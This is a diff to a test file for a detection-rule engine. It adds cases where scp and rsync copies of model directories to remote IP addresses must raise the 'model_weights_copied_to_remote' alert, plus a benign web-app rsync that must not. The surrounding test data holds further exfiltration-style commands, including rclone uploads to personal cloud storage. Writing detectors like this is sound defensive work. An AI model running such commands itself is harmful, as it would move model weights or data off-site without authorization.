@@ -85,6 +85,8 @@ def test_rules_load_cleanly():
     ("kubectl cp -- /models/llama-70b mypod:/tmp/llama", "model_weights_copied_to_remote"),
     ("rclone copy -P data dropbox:x --log-file log.txt", "personal_cloud_upload"),
     ("rclone copy --config my.conf ./data gdrive:exfil", "personal_cloud_upload"),
+    ("scp -r ~/models/llama user@1.2.3.4:/x", "model_weights_copied_to_remote"),
+    ("rsync -av ./models/ user@203.0.113.5:/data/", "model_weights_copied_to_remote"),
 ])
 def test_detected(command, rule):
     assert rule in alerts(command)
@@ -137,6 +139,7 @@ def test_detected(command, rule):
     "kubectl cp ./models/user.py web-0:/app/models/user.py",  # a web app's models package
     "cat models/user.py | ssh deploy@host 'cat > /app/models/user.py'",
     "cp -r ./models ./backup",
+    "rsync -av app/models/ deploy@web1:/srv/app/app/models/",  # a web app's models package, deeper down
     "rclone copy -i --max-age 24h remote_name:path/to/directory path/to/local_directory",  # a download
     "rclone sync mega:x /data/x --progress",
 ])
